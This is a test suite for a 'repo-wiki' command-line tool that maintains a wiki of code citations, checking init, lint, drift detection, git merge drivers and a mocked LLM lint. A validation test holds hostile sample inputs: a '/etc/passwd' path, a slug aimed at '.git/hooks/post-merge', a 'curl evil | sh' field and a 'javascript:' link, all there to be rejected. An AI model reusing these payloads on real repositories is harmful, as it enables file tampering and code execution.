import * as assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { tempDir } from '../../support/tempDirs';

// The built CLI, run as a user would run it.
const CLI = path.resolve(__dirname, '../../../../dist/cli.js');

function run(args: string[], options: { asNobody?: boolean; cwd?: string } = {}) {
  const command = options.asNobody ? 'setpriv' : process.execPath;
  const argv = options.asNobody ? ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, CLI, ...args] : [CLI, ...args];
  const result = spawnSync(command, argv, { encoding: 'utf8', cwd: options.cwd });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const workspace = () => tempDir('repo-wiki-cli-');
const DEMO = path.resolve(__dirname, '../../../../demo');
const demoCopy = () => {
  const ws = workspace();
  fs.cpSync(DEMO, ws, { recursive: true });
  return ws;
};

describe('repo-wiki CLI', function () {
  this.timeout(20000);

  it('init creates a wiki that lints clean, and a second init changes nothing', () => {
    const ws = workspace();
    const first = run(['init', '--workspace', ws]);
    assert.equal(first.code, 0, first.stderr);
    assert.match(first.stdout, /Created \d+ files/);
    for (const file of ['SCHEMA.md', 'index.json', 'index.md', 'log.jsonl', '.gitattributes', '.gitignore', 'pages/welcome.md']) {
      assert.ok(fs.existsSync(path.join(ws, '.wiki', file)), file);
    }
    assert.match(fs.readFileSync(path.join(ws, '.wiki/.gitattributes'), 'utf8'), /log\.jsonl merge=union/);
    const before = fs.readFileSync(path.join(ws, '.wiki/index.json'), 'utf8');
    assert.equal(run(['init', '--workspace', ws]).stdout.trim(), `${path.join(ws, '.wiki')} already exists; nothing was changed.`);
    assert.equal(fs.readFileSync(path.join(ws, '.wiki/index.json'), 'utf8'), before);
    const lint = run(['lint', '--workspace', ws]);
    assert.equal(lint.code, 0, lint.stdout);
    assert.match(lint.stdout, /2 pages checked: 0 errors/);
  });

  it('lint exits 1 on errors and prints 1-based positions in JSON', () => {
    const ws = workspace();
    run(['init', '--workspace', ws]);
    const page = path.join(ws, '.wiki/pages/welcome.md');
    fs.appendFileSync(page, '\nSee [[nowhere]].\n');
    const result = run(['lint', '--workspace', ws, '--format', 'json']);
    assert.equal(result.code, 1);
    const report = JSON.parse(result.stdout);
    assert.equal(report.pagesChecked, 2);
    const broken = report.issues.find((i: { code: string }) => i.code === 'broken-link');
    const line = fs.readFileSync(page, 'utf8').split('\n').findIndex((l) => l.includes('[[nowhere]]')) + 1;
    assert.deepEqual(broken, { page: '.wiki/pages/welcome.md', line, column: 5, code: 'broken-link', severity: 'error', message: 'Link [[nowhere]] points to no page.' });
  });

  it('lint reports an index a rebuild would change as index-out-of-date, saying to run index rebuild, which clears it', () => {
    const ws = workspace();
    run(['init', '--workspace', ws]);
    const page = path.join(ws, '.wiki/pages/welcome.md');
    fs.writeFileSync(page, fs.readFileSync(page, 'utf8').replace(/^title: .*$/m, 'title: Start here'));
    const stale = run(['lint', '--workspace', ws]);
    assert.equal(stale.code, 1, stale.stdout);
    const fix = 'Run "repo-wiki index rebuild" (in VS Code, "Repo Wiki: Rebuild index") and commit the result.';
    assert.ok(stale.stdout.includes(`.wiki/index.json:1:1  error    index-out-of-date  .wiki/index.json is out of date: it does not match the pages. ${fix}\n`), stale.stdout);
    assert.ok(stale.stdout.includes(`.wiki/index.md:1:1  error    index-out-of-date  .wiki/index.md is out of date: it does not match the pages. ${fix}\n`), stale.stdout);
    assert.equal(run(['index', 'rebuild', '--workspace', ws]).code, 0);
    const clean = run(['lint', '--workspace', ws]);
    assert.equal(clean.code, 0, clean.stdout);
    assert.match(clean.stdout, /2 pages checked: 0 errors, 0 other issues\./);
  });

  it('index rebuild regenerates a conflicted index', () => {
    const ws = workspace();
    run(['init', '--workspace', ws]);
    const indexFile = path.join(ws, '.wiki/index.json');
    const good = fs.readFileSync(indexFile, 'utf8');
    fs.writeFileSync(indexFile, `<<<<<<< HEAD\n${good}=======\n{}\n>>>>>>> b\n`);
    const result = run(['index', 'rebuild', '--workspace', ws, '--format', 'json']);
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(JSON.parse(result.stdout), { pages: 2, changed: true });
    assert.equal(fs.readFileSync(indexFile, 'utf8'), good);
  });

  it('explains usage errors and a missing wiki with exit code 2', () => {
    const ws = workspace();
    assert.equal(run([]).code, 2);
    assert.match(run(['frobnicate', '--workspace', ws]).stderr, /Unknown command "frobnicate"/);
    assert.match(run(['lint', '--workspace', ws, '--format', 'xml']).stderr, /--format must be text or json/);
    const missing = run(['lint', '--workspace', ws]);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /no \.wiki\/ folder.*repo-wiki init/);
  });

  it('finds .wiki/ upward from the current folder, as git finds .git; init makes no second wiki below one unless asked', () => {
    const ws = demoCopy();
    const sub = path.join(ws, 'src', 'nested', 'deeper');
    fs.mkdirSync(sub, { recursive: true });
    const fromSub = run(['drift', '--format', 'json'], { cwd: sub });
    assert.equal(fromSub.code, run(['drift', '--workspace', ws, '--format', 'json']).code, fromSub.stderr);
    assert.equal(JSON.parse(fromSub.stdout).citationsChecked, 47, 'checked the wiki above');
    assert.equal(run(['lint', '--format', 'json'], { cwd: sub }).stdout, run(['lint', '--workspace', ws, '--format', 'json']).stdout);
    const none = workspace();
    const missing = run(['lint'], { cwd: none });
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, new RegExp(`There is no \\.wiki/ folder in ${none.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} or any folder above it\\. Run "repo-wiki init"`));
    const second = run(['init'], { cwd: sub });
    assert.equal(second.code, 2, 'no second wiki below one by accident');
    assert.match(second.stderr, new RegExp(`${ws.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} already has a wiki, and the other commands use it from here\\. To start a second wiki in .*, run repo-wiki init --workspace \\.`));
    assert.ok(!fs.existsSync(path.join(sub, '.wiki')));
    assert.equal(run(['init', '--workspace', '.'], { cwd: sub }).code, 0);
    assert.ok(fs.existsSync(path.join(sub, '.wiki', 'index.json')), 'asked for, init makes the wiki in the folder given');
    assert.match(run(['--help']).stdout.replace(/\s+/g, ' '), /--workspace DIR the workspace folder \(default: the nearest folder with a \.wiki\/, from the current one up; for init, the current one\)/);
  });

  it('reports a read-only workspace clearly and writes nothing', () => {
    const ws = workspace();
    fs.chmodSync(ws, 0o555);
    // root ignores permission bits, so run as an unprivileged user then.
    const result = run(['init', '--workspace', ws], { asNobody: process.getuid?.() === 0 });
    assert.equal(result.code, 2);
    assert.match(result.stderr, /read-only or access is denied.*Nothing was changed/);
    assert.deepEqual(fs.readdirSync(ws), []);
  });

  describe('drift', () => {

    it('prints the JSON report of the demo: two drifted citations, no errors, exit 0', () => {
      const result = run(['drift', '--workspace', demoCopy(), '--format', 'json']);
      assert.equal(result.code, 0, result.stderr);
      const report = JSON.parse(result.stdout);
      assert.equal(report.pagesChecked, 6);
      assert.equal(report.citationsChecked, 47);
      assert.deepEqual(report.issues.map((i: { code: string; citation: string }) => `${i.code} ${i.citation}`), [
        'signature-changed src/todos.ts:TodoStore.complete',
        'body-changed src/todos.ts:TodoStore',
      ]);
      const [signature] = report.issues;
      assert.deepEqual(Object.keys(signature), ['page', 'line', 'column', 'citation', 'code', 'severity', 'message']);
      assert.equal(signature.page, '.wiki/pages/errors-become-responses-at-the-edge.md');
      const lines = fs.readFileSync(path.join(DEMO, signature.page), 'utf8').split('\n');
      assert.equal(signature.line, lines.findIndex((l) => l.includes('`src/todos.ts:TodoStore.complete`')) + 1);
      assert.equal(signature.column, lines[signature.line - 1].indexOf('src/todos.ts:TodoStore.complete') + 1);
      assert.equal(signature.severity, 'warning');
    });

    it('exits 1 on a missing symbol and prints GitHub Actions annotations', () => {
      const ws = demoCopy();
      const errors = path.join(ws, 'src/errors.ts');
      fs.writeFileSync(errors, fs.readFileSync(errors, 'utf8').replace('export function isHttpError(', 'export function isHttpFailure(').replace('return value instanceof HttpError;', 'return value instanceof Error;'));
      const result = run(['drift', '--workspace', ws, '--format', 'github']);
      assert.equal(result.code, 1, result.stderr);
      const annotations = result.stdout.trim().split('\n');
      assert.equal(annotations.length, 3);
      const missing = annotations.find((a) => a.startsWith('::error '));
      assert.match(missing ?? '', /^::error file=\.wiki\/pages\/errors-become-responses-at-the-edge\.md,line=\d+,col=\d+,title=repo-wiki missing-symbol::isHttpError is not declared in src\/errors\.ts\.$/);
      assert.ok(annotations.some((a) => a.startsWith('::warning ') && a.includes('signature-changed')));
      assert.ok(annotations.some((a) => a.startsWith('::notice ') && a.includes('body-changed')));
      const text = run(['drift', '--workspace', ws]);
      assert.equal(text.code, 1);
      assert.match(text.stdout, /47 citations in 6 pages checked: 1 error, 2 other issues\./);
    });

    it('--stamp records fingerprints only for citations that have none, and logs it', () => {
      const ws = demoCopy();
      const page = path.join(ws, '.wiki/pages/middleware-conventions.md');
      fs.appendFileSync(page, '\nMethods are listed in `src/types.ts:Method`.\n');
      const before = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      assert.ok(before.issues.some((i: { code: string; citation: string }) => i.code === 'unverified' && i.citation === 'src/types.ts:Method'));
      const stamped = run(['drift', '--workspace', ws, '--stamp']);
      assert.equal(stamped.code, 0, stamped.stderr);
      assert.match(stamped.stdout, /Stamped 1 citation\./);
      assert.match(fs.readFileSync(page, 'utf8'), /"src\/types\.ts:Method": "sig:[0-9a-f]{8} shape:[0-9a-f]{8}"/, 'an enum is stamped with its shape');
      const after = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      assert.deepEqual(after.issues.map((i: { code: string }) => i.code), ['signature-changed', 'body-changed'], 'drifted citations are not re-stamped');
      const log = fs.readFileSync(path.join(ws, '.wiki/log.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
      assert.deepEqual({ ...log.at(-1), ts: undefined }, { ts: undefined, op: 'stamp', pages: ['middleware-conventions'], citations: ['src/types.ts:Method'] });
    });

    it('--review SLUG stamps every citation of a page a person checked, clearing the drift seen there and nowhere else', () => {
      const ws = demoCopy();
      const before = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      const drifted = before.issues.filter((i: { code: string }) => i.code === 'signature-changed' || i.code === 'body-changed');
      assert.equal(drifted.length, 2);
      const reviewed = drifted[0].page.replace(/^\.wiki\/pages\/|\.md$/g, '');
      const result = run(['drift', '--workspace', ws, '--review', reviewed]);
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stdout, /Stamped \d+ citations?\./);
      const after = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      assert.ok(!after.issues.some((i: { page: string; code: string }) => i.page === drifted[0].page && i.code === drifted[0].code), 'the reviewed drift is gone');
      assert.ok(after.issues.some((i: { page: string; code: string }) => i.page === drifted[1].page && i.code === drifted[1].code), 'other pages are untouched');
      const missing = run(['drift', '--workspace', ws, '--review', 'no-such-page']);
      assert.equal(missing.code, 2);
      assert.match(missing.stderr, /drift --review: There is no page "no-such-page" to review\./);
    });

    it('--review drops the anchors of citations taken off the page, and says so', () => {
      const ws = demoCopy();
      const file = path.join(ws, '.wiki/pages/errors-become-responses-at-the-edge.md');
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('`src/todos.ts:TodoStore.complete` throws', 'TodoStore.complete throws'));
      const result = run(['drift', '--workspace', ws, '--review', 'errors-become-responses-at-the-edge']);
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stdout, /Dropped 1 anchor of citations no longer on their pages\./);
      assert.doesNotMatch(fs.readFileSync(file, 'utf8'), /"src\/todos\.ts:TodoStore\.complete"/);
      const log = fs.readFileSync(path.join(ws, '.wiki/log.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line));
      assert.deepEqual(log.at(-1).dropped, ['src/todos.ts:TodoStore.complete']);
    });

    it('--changed-since REF checks only the pages edited or citing a file changed since REF, and refuses an unknown REF', () => {
      const ws = demoCopy();
      const git = (...args: string[]) => spawnSync('git', args, { cwd: ws, encoding: 'utf8' });
      git('init', '-q', '-b', 'main');
      git('add', '-A');
      git('-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-qm', 'base');
      git('checkout', '-q', '-b', 'topic');
      const unchanged = JSON.parse(run(['drift', '--workspace', ws, '--changed-since', 'main', '--format', 'json']).stdout);
      assert.equal(unchanged.pagesChecked, 0, 'nothing changed: no page to check');

      const errors = path.join(ws, 'src/errors.ts');
      fs.writeFileSync(errors, fs.readFileSync(errors, 'utf8').replace('export function isHttpError(', 'export function isHttpFailure(').replace('return value instanceof HttpError;', 'return value instanceof Error;'));
      fs.appendFileSync(path.join(ws, '.wiki/pages/router-trailing-slashes.md'), '\nEdited on the branch.\n');
      fs.writeFileSync(path.join(ws, '.wiki/pages/new-on-branch.md'), '---\ntitle: New on the branch\ntopic: architecture\nsummary: Not committed yet.\nstatus: active\ntags: []\ncreated: 2026-11-01\nupdated: 2026-11-01\n---\nIt cites `src/errors.ts:isHttpError`.\n');
      const touched = run(['drift', '--workspace', ws, '--changed-since', 'main', '--format', 'json']);
      assert.equal(touched.code, 1, 'the missing symbol is still an error');
      const report = JSON.parse(touched.stdout);
      const citingErrors = fs.readdirSync(path.join(ws, '.wiki/pages')).filter((name) => fs.readFileSync(path.join(ws, '.wiki/pages', name), 'utf8').includes('`src/errors.ts'));
      assert.equal(report.pagesChecked, new Set([...citingErrors, 'router-trailing-slashes.md']).size);
      assert.ok(report.issues.some((i: { code: string; citation: string }) => i.code === 'missing-symbol' && i.citation === 'src/errors.ts:isHttpError'));
      assert.ok(report.issues.some((i: { page: string }) => i.page === '.wiki/pages/new-on-branch.md'), 'a page not yet committed is found too');
      const touchedPages = new Set([...citingErrors, 'router-trailing-slashes.md'].map((name) => `.wiki/pages/${name}`));
      assert.ok(report.issues.every((i: { page: string }) => touchedPages.has(i.page)), 'pages citing only unchanged files are not checked');
      assert.ok(report.issues.every((i: { page: string; citation: string }) => i.page.endsWith('/router-trailing-slashes.md') || i.citation.startsWith('src/errors.ts')), 'on a page not edited, only citations into the changed file are checked (the drifted TodoStore citations beside them are not this change\'s)');
      const text = run(['drift', '--workspace', ws, '--changed-since', 'main']);
      assert.match(text.stdout, /Only the pages touched by the 3 files changed since main\./);

      const unknown = run(['drift', '--workspace', ws, '--changed-since', 'no-such-branch']);
      assert.equal(unknown.code, 2);
      assert.match(unknown.stderr, /Git cannot compare with "no-such-branch"/);
      assert.equal(run(['drift', '--workspace', ws, '--changed-since', '--output=x']).code, 2, 'an option is never taken for a revision');
    });

    it('a scan of many Python files parses on the bundle\'s threads with the verdicts of one thread', () => {
      assert.ok(fs.existsSync(path.join(path.dirname(CLI), 'parseWorker.js')), 'the parse threads\' script is built beside cli.js');
      const ws = workspace();
      const decoder = fs.readFileSync('/usr/lib/python3.11/json/decoder.py', 'utf8');
      const files = Array.from({ length: 40 }, (_, i) => `pkg/m${i}/decoder.py`);
      for (const file of files) {
        fs.mkdirSync(path.dirname(path.join(ws, file)), { recursive: true });
        fs.writeFileSync(path.join(ws, file), decoder);
      }
      assert.equal(run(['init', '--workspace', ws]).code, 0);
      fs.writeFileSync(path.join(ws, '.wiki/pages/decoders.md'), `---\ntitle: Decoders\ntopic: architecture\nsummary: Forty copies.\nstatus: active\ntags: []\ncreated: 2026-11-01\nupdated: 2026-11-01\n---\n${files.map((file) => `- \`${file}:JSONDecoder.decode\` and \`${file}:JSONObject\``).join('\n')}\n`);
      const stamp = run(['drift', '--workspace', ws, '--stamp', '--format', 'json']);
      assert.equal(stamp.code, 0, stamp.stderr);
      assert.deepEqual(JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout).issues, [], 'every stamp holds');
      const renamed = path.join(ws, files[7]);
      fs.writeFileSync(renamed, decoder.replace('def JSONObject(', 'def JSONObjectParsed('));
      const report = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      assert.equal(report.citationsChecked, 80);
      assert.deepEqual(report.issues.map((i: { code: string; citation: string }) => `${i.code} ${i.citation}`), [`renamed-symbol ${files[7]}:JSONObject`]);
    });

    it('reports a renamed function as renamed-symbol, and --fix points the citation at the new name', () => {
      const ws = demoCopy();
      const errors = path.join(ws, 'src/errors.ts');
      fs.writeFileSync(errors, fs.readFileSync(errors, 'utf8').replace('export function isHttpError(', 'export function isHttpFailure('));
      const before = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      const renamed = before.issues.filter((i: { code: string }) => i.code === 'renamed-symbol');
      assert.deepEqual(renamed.map((i: { citation: string }) => i.citation), ['src/errors.ts:isHttpError']);
      assert.match(renamed[0].message, /isHttpError was renamed to isHttpFailure in src\/errors\.ts/);

      const fixed = run(['drift', '--workspace', ws, '--fix']);
      assert.equal(fixed.code, 0, fixed.stdout + fixed.stderr);
      assert.match(fixed.stdout, /Updated errors-become-responses-at-the-edge: src\/errors\.ts:isHttpError → src\/errors\.ts:isHttpFailure/);
      const page = fs.readFileSync(path.join(ws, '.wiki/pages/errors-become-responses-at-the-edge.md'), 'utf8');
      assert.ok(page.includes('`src/errors.ts:isHttpFailure`') && !page.includes('src/errors.ts:isHttpError'));
      const after = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      assert.ok(!after.issues.some((i: { citation: string }) => i.citation.includes('isHttp')), 'the updated citation matches its recorded fingerprint');
      const log = fs.readFileSync(path.join(ws, '.wiki/log.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
      assert.deepEqual({ ...log.at(-1), ts: undefined }, { ts: undefined, op: 'relocate-citation', pages: ['errors-become-responses-at-the-edge'], from: 'src/errors.ts:isHttpError', to: 'src/errors.ts:isHttpFailure' });
    });

    it('a review records the commit; --diff then prints what changed in each cited symbol since', () => {
      const ws = demoCopy();
      const git = (...args: string[]) => spawnSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], { cwd: ws, encoding: 'utf8' });
      git('init', '-q', '-b', 'main');
      git('add', '-A');
      git('commit', '-qm', 'base');
      const head = git('rev-parse', 'HEAD').stdout.trim();
      assert.equal(run(['drift', '--workspace', ws, '--review', 'errors-become-responses-at-the-edge']).code, 0);
      const page = fs.readFileSync(path.join(ws, '.wiki/pages/errors-become-responses-at-the-edge.md'), 'utf8');
      assert.match(page, new RegExp(`"src/todos\\.ts:TodoStore\\.complete": "sig:[0-9a-f]{8} body:[0-9a-f]{8} at:${head.slice(0, 12)}"`), 'the reviewed anchor names the commit');

      const errors = path.join(ws, 'src/errors.ts');
      fs.writeFileSync(errors, fs.readFileSync(errors, 'utf8').replace('return new HttpError(500).toResponse();', 'return new HttpError(503).toResponse();'));
      const text = run(['drift', '--workspace', ws, '--diff']);
      assert.equal(text.code, 0, text.stderr);
      assert.match(text.stdout, /body-changed  src\/errors\.ts:toErrorResponse/);
      assert.match(text.stdout, new RegExp(`--- a/src/errors\\.ts\\s+at ${head.slice(0, 12)}`));
      assert.match(text.stdout, /^\s+-\s+return new HttpError\(500\)\.toResponse\(\);$/m);
      assert.match(text.stdout, /^\s+\+\s+return new HttpError\(503\)\.toResponse\(\);$/m);
      assert.ok(!/isHttpError\(value/.test(text.stdout.split('toErrorResponse')[1] ?? ''), 'only the cited symbol\'s lines, not the rest of the file');

      const json = JSON.parse(run(['drift', '--workspace', ws, '--diff', '--format', 'json']).stdout);
      const changed = json.issues.find((i: { citation: string }) => i.citation === 'src/errors.ts:toErrorResponse');
      assert.match(changed.diff, /\+\s+return new HttpError\(503\)/);
      const unstamped = json.issues.find((i: { citation: string; code: string }) => i.code === 'body-changed' && i.citation === 'src/todos.ts:TodoStore');
      assert.match(unstamped.diff, /stamped without a commit/);
    });

    it('--semantic reports a type changed through a callee, which the text alone cannot see', function () {
      this.timeout(90000); // three CLI runs that each build a type checker: slow on a loaded machine
      const ws = workspace();
      run(['init', '--workspace', ws]);
      fs.mkdirSync(path.join(ws, 'src'));
      fs.writeFileSync(path.join(ws, 'tsconfig.json'), JSON.stringify({ compilerOptions: { strict: true, target: 'ES2022', module: 'ESNext', moduleResolution: 'bundler' }, include: ['src'] }));
      fs.writeFileSync(path.join(ws, 'src/helper.ts'), 'export function helper() {\n  return 1;\n}\n');
      fs.writeFileSync(path.join(ws, 'src/wrap.ts'), "import { helper } from './helper';\n\nexport function wrap() {\n  return helper();\n}\n");
      fs.writeFileSync(path.join(ws, '.wiki/pages/wrapping.md'), '---\ntitle: Wrapping\ntopic: architecture\nsummary: How wrap works.\nstatus: active\ntags: []\ncreated: 2026-11-01\nupdated: 2026-11-01\n---\n`src/wrap.ts:wrap` returns what `src/helper.ts:helper` returns. See [[welcome]].\n');
      const stamped = run(['drift', '--workspace', ws, '--semantic', '--stamp']);
      assert.equal(stamped.code, 0, stamped.stderr);
      assert.match(fs.readFileSync(path.join(ws, '.wiki/pages/wrapping.md'), 'utf8'), /"src\/wrap\.ts:wrap": "sig:[0-9a-f]{8} body:[0-9a-f]{8} type:[0-9a-f]{8}"/);

      fs.writeFileSync(path.join(ws, 'src/helper.ts'), "export function helper() {\n  return 'one';\n}\n");
      const semantic = JSON.parse(run(['drift', '--workspace', ws, '--semantic', '--format', 'json']).stdout);
      assert.deepEqual(semantic.issues.map((i: { code: string; citation: string }) => `${i.code} ${i.citation}`).sort(), ['type-changed src/helper.ts:helper', 'type-changed src/wrap.ts:wrap']);
      const syntactic = JSON.parse(run(['drift', '--workspace', ws, '--format', 'json']).stdout);
      assert.deepEqual(syntactic.issues.map((i: { code: string; citation: string }) => `${i.code} ${i.citation}`), ['body-changed src/helper.ts:helper'], 'without --semantic, wrap\'s unchanged text is not drift');
    });

    it('rejects --format github outside drift', () => {
      const ws = workspace();
      run(['init', '--workspace', ws]);
      const result = run(['lint', '--workspace', ws, '--format', 'github']);
      assert.equal(result.code, 2);
      assert.match(result.stderr, /--format must be text or json/);
    });
  });

  describe('lint --fix, lint --llm and the git helpers', () => {
    const { startMockAnthropic } = require(path.resolve(__dirname, '../../../../test/harness/mockAnthropic.cjs'));

    it('lint --fix unlinks a deleted page and leaves a link that never had a page for a person to judge', () => {
      const ws = demoCopy();
      const page = path.join(ws, '.wiki', 'pages', 'middleware-conventions.md');
      fs.appendFileSync(page, '\nSee also [[gone-page|the old notes]].\n');
      fs.appendFileSync(path.join(ws, '.wiki', 'log.jsonl'), '{"ts":"2026-11-01T00:00:00Z","op":"new-page","pages":["gone-page"]}\n');
      const fixed = run(['lint', '--workspace', ws, '--fix']);
      assert.match(fixed.stdout, /fixed {2}\.wiki\/pages\/middleware-conventions\.md {2}unlinked deleted page \[\[gone-page\]\]/);
      assert.doesNotMatch(fixed.stdout, /gone-page\]\] points to no page/);
      assert.match(fixed.stdout, /testing-handlers-in-process\.md:\d+:\d+ {2}error {4}broken-link {2}Link \[\[no-such-page\]\]/);
      assert.equal(fixed.code, 1, 'the demo\'s own broken link is still an error');
      assert.match(fs.readFileSync(page, 'utf8'), /See also the old notes\.\n$/);
      const entry = JSON.parse(fs.readFileSync(path.join(ws, '.wiki', 'log.jsonl'), 'utf8').trim().split('\n').at(-1)!);
      assert.deepEqual([entry.op, entry.pages], ['lint-fix', ['middleware-conventions']]);
    });

    it('lint --llm adds the librarian findings through the real SDK and reports the budget', async () => {
      const ws = demoCopy();
      const mock = await startMockAnthropic({ validKey: 'sk-ant-cli-lint' });
      try {
        let checked = '';
        mock.script((body: { messages: { content: string }[] }) => {
          checked = /<page slug="([^"]+)"/.exec(body.messages[0].content)![1];
          return { text: JSON.stringify({ findings: [{ kind: 'missing-link', page: checked, quote: 'nowhere in the page', severity: 'info', message: 'Link the middleware page.' }] }), usage: { input_tokens: 3000, output_tokens: 50 } };
        });
        // Not spawnSync: the mock answers from this process's event loop.
        const child = spawn(process.execPath, [CLI, 'lint', '--workspace', ws, '--llm', '--min-age-days', '0', '--max-pages', '1', '--format', 'json'], { env: { ...process.env, ANTHROPIC_API_KEY: 'sk-ant-cli-lint', ANTHROPIC_BASE_URL: mock.url } });
        let stdout = '';
        child.stdout.on('data', (d) => (stdout += d));
        const code = await new Promise((resolve) => child.on('close', resolve));
        assert.equal(code, 1, 'the demo has a broken link');
        const report = JSON.parse(stdout);
        const finding = report.issues.find((issue: { code: string }) => issue.code === 'lint:missing-link');
        assert.equal(finding.page, `.wiki/pages/${checked}.md`);
        assert.equal(finding.severity, 'info');
        assert.equal(report.librarian.pagesChecked.length, 1);
        assert.equal(report.librarian.usage.inputTokens, 3000);
        assert.equal(mock.requests.length, 1);
      } finally {
        await mock.close();
      }
    });

    it('lint --llm exits 2 on a reply that is not the contract and says the raw reply is printed above', async () => {
      const ws = demoCopy();
      const mock = await startMockAnthropic({ validKey: 'sk-ant-cli-lint' });
      try {
        mock.script({ text: 'Looks fine to me!' });
        const child = spawn(process.execPath, [CLI, 'lint', '--workspace', ws, '--llm', '--min-age-days', '0', '--max-pages', '1'], { env: { ...process.env, ANTHROPIC_API_KEY: 'sk-ant-cli-lint', ANTHROPIC_BASE_URL: mock.url } });
        let stderr = '';
        child.stderr.on('data', (d) => (stderr += d));
        assert.equal(await new Promise((resolve) => child.on('close', resolve)), 2);
        assert.match(stderr, /--- raw reply ---\nLooks fine to me!\nrepo-wiki: The librarian's lint reply was rejected: .*\. The raw reply was printed to stderr above\.\n$/);
      } finally {
        await mock.close();
      }
    });

    it('merge-driver install configures git and index merge merges two catalogs', () => {
      const ws = demoCopy();
      spawnSync('git', ['init', '-q', '-b', 'main'], { cwd: ws });
      const installed = run(['merge-driver', 'install', '--workspace', ws]);
      assert.equal(installed.code, 0, installed.stderr);
      assert.match(installed.stdout, /Index and page merge drivers installed/);
      assert.match(spawnSync('git', ['config', '--get', 'merge.repo-wiki-index.driver'], { cwd: ws, encoding: 'utf8' }).stdout, /index merge %O %A %B %P/);
      assert.match(spawnSync('git', ['config', '--get', 'merge.repo-wiki-page.driver'], { cwd: ws, encoding: 'utf8' }).stdout, /page merge --marker-size %L %O %A %B %P/);
      const index = path.join(ws, '.wiki', 'index.json');
      const base = JSON.parse(fs.readFileSync(index, 'utf8'));
      const write = (name: string, pages: unknown[]) => {
        fs.writeFileSync(path.join(ws, name), JSON.stringify({ version: 1, pages }, null, 2));
        return path.join(ws, name);
      };
      const extra = (slug: string) => ({ ...base.pages[0], slug, path: `.wiki/pages/${slug}.md` });
      const ours = write('ours.json', [...base.pages, extra('zz-ours')]);
      const merged = run(['index', 'merge', write('base.json', base.pages), ours, write('theirs.json', [extra('aa-theirs'), ...base.pages]), '.wiki/index.json']);
      assert.equal(merged.code, 0, merged.stderr);
      const slugs = JSON.parse(fs.readFileSync(ours, 'utf8')).pages.map((p: { slug: string }) => p.slug);
      assert.deepEqual(slugs, ['aa-theirs', ...base.pages.map((p: { slug: string }) => p.slug), 'zz-ours']);
    });

    describe('index merge', () => {
      const catalog = (pages: unknown[]) => `${JSON.stringify({ version: 1, pages }, null, 2)}\n`;
      const entry = (slug: string, change: Record<string, unknown> = {}) => ({
        slug, path: `.wiki/pages/${slug}.md`, title: slug, topic: 'other', summary: '', status: 'active', tags: [], updated: '2026-11-01', corroborations: 0, links: [], ...change,
      });
      /** BASE, OURS and THEIRS files in a fresh folder; returns their paths. */
      const sides = (base: string, ours: string, theirs: string) => {
        const dir = workspace();
        return [['base.json', base], ['ours.json', ours], ['theirs.json', theirs]].map(([name, text]) => {
          fs.writeFileSync(path.join(dir, name), text);
          return path.join(dir, name);
        });
      };

      it('a missing input is one line naming it, exit 2, and OURS is untouched', () => {
        const [base, ours, theirs] = sides(catalog([]), catalog([entry('a')]), catalog([]));
        fs.rmSync(theirs);
        const result = run(['index', 'merge', base, ours, theirs, '.wiki/index.json']);
        assert.equal(result.code, 2);
        assert.equal(result.stderr, `repo-wiki: cannot read ${theirs}: it does not exist.\n`);
        assert.equal(fs.readFileSync(ours, 'utf8'), catalog([entry('a')]));
        const folder = run(['index', 'merge', base, ours, path.dirname(base)]);
        assert.equal(folder.stderr, `repo-wiki: cannot read ${path.dirname(base)}: it is a folder.\n`);
      });

      it('too few files is a usage error', () => {
        const result = run(['index', 'merge', 'a.json', 'b.json']);
        assert.equal(result.code, 2);
        assert.match(result.stderr, /^index merge takes BASE OURS THEIRS \[PATH\]/);
      });

      it('an entry no rebuild could write exits 1, names the problem and leaves OURS as it was', () => {
        const hostile: [unknown, RegExp][] = [
          [entry('b', { path: '/etc/passwd' }), /theirs: page 2 \("b"\) has the path "\/etc\/passwd", not "\.wiki\/pages\/b\.md"/],
          [entry('../../.git/hooks/post-merge'), /theirs: page 2 has the slug "\.\.\/\.\.\/\.git\/hooks\/post-merge", which is not a valid page slug/],
          [entry('b', { corroborations: 'many' }), /corroborations that are not a whole number/],
          [entry('b', { run: 'curl evil | sh' }), /has the unknown key "run"/],
        ];
        for (const [bad, expected] of hostile) {
          const ours = catalog([entry('a')]);
          const [baseFile, oursFile, theirsFile] = sides(catalog([entry('a')]), ours, catalog([entry('a'), bad]));
          const result = run(['index', 'merge', baseFile, oursFile, theirsFile, '.wiki/index.json']);
          assert.equal(result.code, 1, result.stderr);
          assert.match(result.stderr, expected);
          assert.match(result.stderr, /^repo-wiki: cannot merge \.wiki\/index\.json: .*Ours is kept unchanged/);
          assert.equal(result.stderr.trim().split('\n').length, 1);
          assert.equal(fs.readFileSync(oursFile, 'utf8'), ours);
        }
      });

      it('a hostile index.md line exits 1 and leaves OURS as it was', () => {
        const good = '# Wiki index\n\n<!-- Generated by Repo Wiki from .wiki/pages. Do not edit; run "Rebuild index". -->\n\n## Other\n\n- [a](pages/a.md)\n';
        const [base, ours, theirs] = sides(good, good, good.replace('- [a](pages/a.md)\n', '- [a](pages/a.md)\n- [x](javascript:alert(1)) [y](pages/y.md)\n'));
        const result = run(['index', 'merge', base, ours, theirs, '.wiki/index.md']);
